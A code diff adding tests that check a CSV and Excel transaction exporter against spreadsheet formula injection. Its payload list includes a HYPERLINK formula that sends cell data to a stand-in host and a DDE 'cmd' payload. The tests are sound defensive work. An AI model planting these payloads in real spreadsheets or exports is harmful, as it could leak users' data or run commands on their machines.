@@ -109,3 +109,62 @@ describe('Excel', () => {
     expect(strFromU8(files['xl/styles.xml']!)).toContain('formatCode="mm/dd/yyyy"');
   });
 });
+
+describe('text that a spreadsheet would run as a formula (issue 24 point 8)', () => {
+  const PAYLOADS = ['=HYPERLINK("https://rau.example/?d="&A2,"Click")', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', '-12,50'];
+  const TEXT_COLUMNS = ['Cont', 'Categorie', 'Subcategorie', 'Descriere'];
+  const attack = (payload: string): { row: TransactionRow; context: ExportContext } => ({
+    row: row(1, { category: payload, subcategory: payload, description: payload, running_balance: -12.5 }),
+    context: { ...context, accountNames: new Map([[BANK, payload]]) },
+  });
+
+  /** The cells of one CSV line as a spreadsheet reads them: ';' between cells, a quoted cell's "" as one quote. */
+  const cellsOf = (line: string): string[] => {
+    const cells: string[] = [];
+    let cell = '';
+    let quoted = false;
+    for (let i = 0; i < line.length; i++) {
+      const c = line[i];
+      if (quoted && c === '"' && line[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') {
+        quoted = !quoted;
+      } else if (c === ';' && !quoted) {
+        cells.push(cell);
+        cell = '';
+      } else {
+        cell += c;
+      }
+    }
+    return [...cells, cell];
+  };
+
+  it.each(PAYLOADS)('CSV: %j is text (a leading apostrophe), the amounts stay numbers', async (payload) => {
+    const { row: attacked, context: named } = attack(payload);
+    const [, line = ''] = (await (await write(csvWriter(named), [[attacked]])).text()).split('\r\n');
+    const cells = cellsOf(line);
+    expect(cells).toHaveLength(header.length);
+    for (const name of TEXT_COLUMNS) expect(cells[column(name)], name).toBe(`'${payload}`);
+    expect(cells[column('Sold cumulat')]).toBe('-12,50');
+    expect(cells[column('Sumă planificată')]).toBe('1235,50');
+    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell));
+    expect(live).toEqual([]);
+  });
+
+  it.each(PAYLOADS)('Excel: %j is written as a string, never a formula', async (payload) => {
+    const { row: attacked, context: named } = attack(payload);
+    const buffer = await (await write(xlsxWriter(named), [[attacked]])).arrayBuffer();
+    expect(strFromU8(unzipSync(new Uint8Array(buffer))['xl/worksheets/sheet1.xml']!)).not.toMatch(/<f[ >]/);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(buffer);
+    const cells = book.worksheets[0]!.getRow(2);
+    for (const name of TEXT_COLUMNS) {
+      const cell = cells.getCell(column(name) + 1);
+      expect(cell.type, name).toBe(ExcelJS.ValueType.String);
+      // XML reads a carriage return in text as a line feed; the cell is text all the same.
+      expect(cell.value, name).toBe(payload.replace(/\r/g, '\n'));
+    }
+    expect(cells.getCell(column('Sold cumulat') + 1).value).toBe(-12.5);
+  });
+});
